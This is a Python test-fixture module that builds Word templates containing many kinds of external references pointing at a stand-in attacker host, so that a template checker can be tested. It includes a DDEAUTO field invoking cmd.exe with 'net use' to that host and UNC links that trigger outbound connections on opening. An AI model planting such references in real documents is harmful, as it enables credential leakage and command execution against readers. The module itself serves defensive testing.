"""Word templates with external references of every kind, made from the default template.

Each `Hostility` puts one kind of reference into the template – where Word would follow it
when the document is opened – with a target on a host whose name holds HOST, and says what
the template check's warnings must name. `hostile_template` writes a template with some or
all of them; the body gets an `{innehåll}` marker, so that the template's own body is kept.
"""

from __future__ import annotations

import zipfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path

from bfa_desktop.documents.template import default_template_path
from bfa_desktop.documents.template_logo import logo_placeholder_png

HOST = "angripare"  # every hostile target names it; nothing exported may
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NAMESPACES = (
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
)
CONTENT_MARKER = "<w:p><w:r><w:t>{innehåll}</w:t></w:r></w:p>"
# Field codes that reach outside the document; none may be left in an export.
EXTERNAL_FIELDS = frozenset(
    {"INCLUDEPICTURE", "INCLUDETEXT", "INCLUDE", "LINK", "DDE", "DDEAUTO", "IMPORT", "HYPERLINK"}
)


class Parts:
    """The parts of a Word package, edited as text."""

    def __init__(self, source: Path) -> None:
        with zipfile.ZipFile(source) as archive:
            self.parts = {name: archive.read(name) for name in archive.namelist()}
        self._next_id = 900

    def text(self, name: str) -> str:
        return self.parts[name].decode("utf-8")

    def put(self, name: str, text: str) -> None:
        self.parts[name] = text.encode("utf-8")

    def relationship(self, part: str, kind: str, target: str, *, external: bool = True) -> str:
        """A new relationship of `part` (its .rels made if missing); its id."""
        folder, _, name = part.rpartition("/")
        rels = f"{folder}/_rels/{name}.rels" if folder else f"_rels/{name}.rels"
        self._next_id += 1
        rid = f"rIdBoese{self._next_id}"
        mode = ' TargetMode="External"' if external else ""
        element = f'<Relationship Id="{rid}" Type="{RELS}/{kind}" Target="{target}"{mode}/>'
        if rels not in self.parts:
            self.put(
                rels,
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
                'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>',
            )
        xml = self.text(rels)
        if xml.endswith("/>") and "</Relationships>" not in xml:
            xml = xml[:-2] + "></Relationships>"
        self.put(rels, xml.replace("</Relationships>", element + "</Relationships>"))
        return rid

    def append(self, part: str, xml: str) -> None:
        """`xml` at the end of a header, footer or settings part."""
        text = self.text(part)
        closing = text.rindex("</")
        self.put(part, text[:closing] + xml + text[closing:])

    def body(self, xml: str) -> None:
        """`xml` in the body, before the content marker."""
        text = self.text("word/document.xml")
        if CONTENT_MARKER not in text:
            text = text.replace("<w:sectPr", CONTENT_MARKER + "<w:sectPr", 1)
        self.put("word/document.xml", text.replace(CONTENT_MARKER, xml + CONTENT_MARKER, 1))

    def content_type(self, part: str, content_type: str) -> None:
        override = f'<Override PartName="/{part}" ContentType="{content_type}"/>'
        self.put(
            "[Content_Types].xml",
            self.text("[Content_Types].xml").replace("</Types>", override + "</Types>"),
        )

    def write(self, path: Path) -> Path:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in self.parts.items():
                archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data)
        return path


@dataclass(frozen=True)
class Hostility:
    name: str
    named: str  # what the template check's warnings must name
    build: Callable[[Parts], None]


def _paragraph(runs: str) -> str:
    return f"<w:p>{runs}</w:p>"


def _text(text: str) -> str:
    return f'<w:r><w:t xml:space="preserve">{text}</w:t></w:r>'


def _complex_field(*code: str, result: str) -> str:
    """A field as Word writes it, its code perhaps split over several runs."""
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + "".join(f'<w:r><w:instrText xml:space="preserve">{c}</w:instrText></w:r>' for c in code)
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + _text(result)
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def _drawing(blip: str, extra: str = "") -> str:
    return (
        f"<w:r><w:drawing><wp:inline {NAMESPACES}>"
        '<wp:extent cx="360000" cy="360000"/>'
        f'<wp:docPr id="77" name="Bild">{extra}</wp:docPr>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="x.png"/><pic:cNvPicPr/></pic:nvPicPr>'
        f"<pic:blipFill>{blip}<a:stretch><a:fillRect/></a:stretch></pic:blipFill>"
        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="360000" cy="360000"/></a:xfrm>'
        '<a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic>'
        "</wp:inline></w:drawing></w:r>"
    )


def _embedded_picture(parts: Parts, part: str) -> str:
    """A relationship of `part` to a picture of the template's own (not the logo placeholder,
    which goes when there is no logo)."""
    parts.parts["word/media/egen-bild.png"] = logo_placeholder_png(20, 20)
    return parts.relationship(part, "image", "media/egen-bild.png", external=False)


def _attached_template(parts: Parts) -> None:
    rid = parts.relationship(
        "word/settings.xml", "attachedTemplate", f"file:///\\\\{HOST}-unc\\mallar\\kommun.dotm"
    )
    parts.append("word/settings.xml", f'<w:attachedTemplate r:id="{rid}"/><w:linkStyles/>')


def _linked_picture_url(parts: Parts) -> None:
    rid = parts.relationship("word/header2.xml", "image", f"http://{HOST}.example/lankad-bild.png")
    parts.append("word/header2.xml", _paragraph(_drawing(f'<a:blip r:link="{rid}"/>')))


def _linked_and_embedded_picture(parts: Parts) -> None:
    rid = parts.relationship("word/footer1.xml", "image", f"\\\\{HOST}-unc\\bilder\\logga.png")
    embedded = _embedded_picture(parts, "word/footer1.xml")
    blip = f'<a:blip r:embed="{embedded}" r:link="{rid}"/>'
    parts.append("word/footer1.xml", _paragraph(_drawing(blip)))


def _vml_linked_picture(parts: Parts) -> None:
    rid = parts.relationship("word/footer1.xml", "image", f"file://{HOST}-vml/bild.png")
    parts.append(
        "word/footer1.xml",
        _paragraph(
            '<w:r><w:pict><v:shape style="width:20pt;height:20pt">'
            f'<v:imagedata r:id="{rid}" o:title=""/></v:shape></w:pict></w:r>'
        ),
    )


def _vml_href(parts: Parts) -> None:
    embedded = _embedded_picture(parts, "word/header2.xml")
    parts.append(
        "word/header2.xml",
        _paragraph(
            '<w:r><w:pict><v:shape style="width:20pt;height:20pt">'
            f'<v:imagedata r:id="{embedded}" o:href="\\\\{HOST}-href\\bild.png"/>'
            "</v:shape></w:pict></w:r>"
        ),
    )


def _picture_hyperlink(parts: Parts) -> None:
    rid = parts.relationship("word/header2.xml", "hyperlink", f"http://{HOST}.example/bildklick")
    embedded = _embedded_picture(parts, "word/header2.xml")
    click = f'<a:hlinkClick {NAMESPACES} r:id="{rid}"/>'
    parts.append("word/header2.xml", _paragraph(_drawing(f'<a:blip r:embed="{embedded}"/>', click)))


def _include_picture(parts: Parts) -> None:
    code = f' INCLUDEPICTURE "http://{HOST}.example/faltbild.png" \\d '
    parts.append("word/header2.xml", _paragraph(_complex_field(code, result="Fältbild")))


def _include_text(parts: Parts) -> None:
    code = f' INCLUDETEXT "\\\\\\\\{HOST}-unc\\\\delad\\\\text.docx" '
    simple = f"<w:fldSimple w:instr='{code}'>{_text('Inkluderad text')}</w:fldSimple>"
    parts.append("word/footer1.xml", _paragraph(simple))


def _split_field_code(parts: Parts) -> None:
    """INCLUDEPICTURE written over three runs, in lower case, as Word may store it."""
    field = _complex_field(
        " include", f'picture "\\\\\\\\{HOST}-delad\\\\', 'bild.png" ', result="Delad"
    )
    parts.append("word/footer1.xml", _paragraph(field))


def _nested_field(parts: Parts) -> None:
    """An INCLUDETEXT inside the code of an IF field."""
    inner = _complex_field(f' INCLUDETEXT "\\\\\\\\{HOST}-nastlad\\\\x.docx" ', result="inre")
    field = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> IF 1 = 1 "</w:instrText></w:r>'
        + inner
        + '<w:r><w:instrText xml:space="preserve">" "" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + _text("Nästlad")
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    parts.body(_paragraph(field))


def _hyperlink_field(parts: Parts) -> None:
    code = f' HYPERLINK "https://{HOST}.example/faltlank" '
    parts.append("word/header2.xml", _paragraph(_complex_field(code, result="Fältlänk")))


def _hyperlink(parts: Parts) -> None:
    rid = parts.relationship("word/footer1.xml", "hyperlink", f"https://{HOST}.example/sidfot")
    link = f'<w:hyperlink r:id="{rid}" w:history="1">{_text("Läs mer")}</w:hyperlink>'
    parts.append("word/footer1.xml", _paragraph(link))


def _link_field_with_ole_object(parts: Parts) -> None:
    target = f"file:///\\\\{HOST}-ole\\data\\blad.xlsx"
    rid = parts.relationship("word/document.xml", "oleObject", target)
    picture = _embedded_picture(parts, "word/document.xml")
    ole = (
        '<w:r><w:object w:dxaOrig="1440" w:dyaOrig="720">'
        '<v:shape id="ole1" style="width:72pt;height:36pt">'
        f'<v:imagedata r:id="{picture}" o:title=""/></v:shape>'
        f'<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="ole1" r:id="{rid}" '
        'UpdateMode="Always"><o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject>'
        "</w:object></w:r>"
    )
    code = f' LINK Excel.Sheet.12 "\\\\\\\\{HOST}-ole\\\\data\\\\blad.xlsx" "Blad1" \\a \\p '
    field = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + ole
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    parts.body(_paragraph(field))


def _dde(parts: Parts) -> None:
    code = f' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k net use \\\\\\\\{HOST}-dde" '
    parts.body(_paragraph(_complex_field(code, result="DDE-resultat")))


def _subdocument(parts: Parts) -> None:
    rid = parts.relationship("word/document.xml", "subDocument", f"\\\\{HOST}-unc\\under\\del.docx")
    parts.body(f'<w:p><w:subDoc r:id="{rid}"/></w:p>')


def _external_alt_chunk(parts: Parts) -> None:
    rid = parts.relationship("word/document.xml", "aFChunk", f"http://{HOST}.example/chunk.htm")
    parts.body(f'<w:altChunk r:id="{rid}"/>')


def _embedded_alt_chunk(parts: Parts) -> None:
    """An HTML part Word imports on opening, with a picture on a remote host."""
    parts.parts["word/chunk1.htm"] = (
        f'<html><body><img src="http://{HOST}.example/chunkbild.png"></body></html>'.encode()
    )
    parts.content_type("word/chunk1.htm", "text/html")
    rid = parts.relationship("word/document.xml", "aFChunk", "chunk1.htm", external=False)
    parts.body(f'<w:altChunk r:id="{rid}"/>')


def _frameset(parts: Parts) -> None:
    rid = parts.relationship("word/webSettings.xml", "frame", f"http://{HOST}.example/ram.docx")
    frameset = (
        '<w:frameset><w:framesetSplitbar><w:w w:val="60"/></w:framesetSplitbar>'
        f'<w:frame><w:name w:val="ram1"/><w:sourceFileName r:id="{rid}"/></w:frame></w:frameset>'
    )
    parts.append("word/webSettings.xml", frameset)


def _mail_merge(parts: Parts) -> None:
    rid = parts.relationship(
        "word/settings.xml", "mailMergeSource", f"file:///\\\\{HOST}-db\\data.xlsx"
    )
    merge = (
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/>'
        '<w:dataType w:val="native"/>'
        '<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;'
        f'Data Source=\\\\{HOST}-db\\data.xlsx"/>'
        '<w:query w:val="SELECT * FROM `Blad1$`"/>'
        f'<w:dataSource r:id="{rid}"/></w:mailMerge>'
    )
    parts.append("word/settings.xml", merge)


def _update_fields(parts: Parts) -> None:
    parts.append("word/settings.xml", '<w:updateFields w:val="true"/>')


def _data_binding(parts: Parts) -> None:
    content_control = (
        "<w:sdt><w:sdtPr>"
        '<w:dataBinding w:xpath="/kommun[1]/angivet-namn[1]" '
        'w:storeItemID="{0F1E2D3C-4B5A-6978-8796-A5B4C3D2E1F0}"/>'
        f"</w:sdtPr><w:sdtContent>{_paragraph(_text('Bunden text'))}</w:sdtContent></w:sdt>"
    )
    parts.append("word/header2.xml", content_control)


def _hyperlink_base(parts: Parts) -> None:
    app = parts.text("docProps/app.xml")
    base = f"<HyperlinkBase>http://{HOST}.example/bas/</HyperlinkBase>"
    parts.put("docProps/app.xml", app.replace("<HyperlinkBase/>", base))


def _custom_property(parts: Parts) -> None:
    parts.put(
        "docProps/custom.xml",
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
        'custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/'
        'docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" '
        f'name="TemplateUrl"><vt:lpwstr>\\\\{HOST}-sp\\mallar\\kommun.dotx</vt:lpwstr>'
        "</property></Properties>",
    )
    parts.content_type(
        "docProps/custom.xml", "application/vnd.openxmlformats-officedocument.custom-properties+xml"
    )
    parts.relationship("", "custom-properties", "docProps/custom.xml", external=False)


def _linked_font(parts: Parts) -> None:
    rid = parts.relationship("word/fontTable.xml", "font", f"http://{HOST}.example/font.odttf")
    font = (
        '<w:font w:name="Kommunfont"><w:embedRegular '
        f'r:id="{rid}" w:fontKey="{{00000000-0000-0000-0000-000000000000}}"/></w:font>'
    )
    parts.append("word/fontTable.xml", font)


def _package_link(parts: Parts) -> None:
    parts.relationship("", "hyperlink", f"http://{HOST}.example/paket")


def _unused_link(parts: Parts) -> None:
    parts.relationship("word/header2.xml", "hyperlink", f"http://{HOST}.example/oanvand")


HOSTILITIES = (
    Hostility("attachedTemplate", f"{HOST}-unc\\mallar\\kommun.dotm", _attached_template),
    Hostility("linked picture (URL)", f"{HOST}.example/lankad-bild.png", _linked_picture_url),
    Hostility(
        "linked and embedded picture (UNC)",
        f"{HOST}-unc\\bilder\\logga.png",
        _linked_and_embedded_picture,
    ),
    Hostility("VML linked picture", f"{HOST}-vml/bild.png", _vml_linked_picture),
    Hostility("VML o:href", f"{HOST}-href\\bild.png", _vml_href),
    Hostility("hyperlink on a picture", f"{HOST}.example/bildklick", _picture_hyperlink),
    Hostility("INCLUDEPICTURE field", "INCLUDEPICTURE", _include_picture),
    Hostility("INCLUDETEXT simple field", "INCLUDETEXT", _include_text),
    Hostility("field code split over runs", f"{HOST}-delad", _split_field_code),
    Hostility("field inside a field", f"{HOST}-nastlad", _nested_field),
    Hostility("HYPERLINK field", "HYPERLINK", _hyperlink_field),
    Hostility("hyperlink in the footer", f"{HOST}.example/sidfot", _hyperlink),
    Hostility(
        "LINK field with OLE link", f"{HOST}-ole\\data\\blad.xlsx", _link_field_with_ole_object
    ),
    Hostility("DDEAUTO field", "DDEAUTO", _dde),
    Hostility("subdocument", f"{HOST}-unc\\under\\del.docx", _subdocument),
    Hostility("external altChunk", f"{HOST}.example/chunk.htm", _external_alt_chunk),
    Hostility("embedded altChunk", "chunk1.htm", _embedded_alt_chunk),
    Hostility("frameset", f"{HOST}.example/ram.docx", _frameset),
    Hostility("mail merge data source", f"{HOST}-db\\data.xlsx", _mail_merge),
    Hostility("updateFields", "uppdatera alla fält", _update_fields),
    Hostility("customXml data binding", "/kommun[1]/angivet-namn[1]", _data_binding),
    Hostility("hyperlink base", f"{HOST}.example/bas/", _hyperlink_base),
    Hostility("custom property", f"{HOST}-sp\\mallar\\kommun.dotx", _custom_property),
    Hostility("linked font", f"{HOST}.example/font.odttf", _linked_font),
    Hostility("package relationship", f"{HOST}.example/paket", _package_link),
    Hostility("unused relationship", f"{HOST}.example/oanvand", _unused_link),
)


def hostile_template(path: Path, hostilities: Iterable[Hostility] = HOSTILITIES) -> Path:
    parts = Parts(default_template_path())
    for hostility in hostilities:
        hostility.build(parts)
    return parts.write(path)
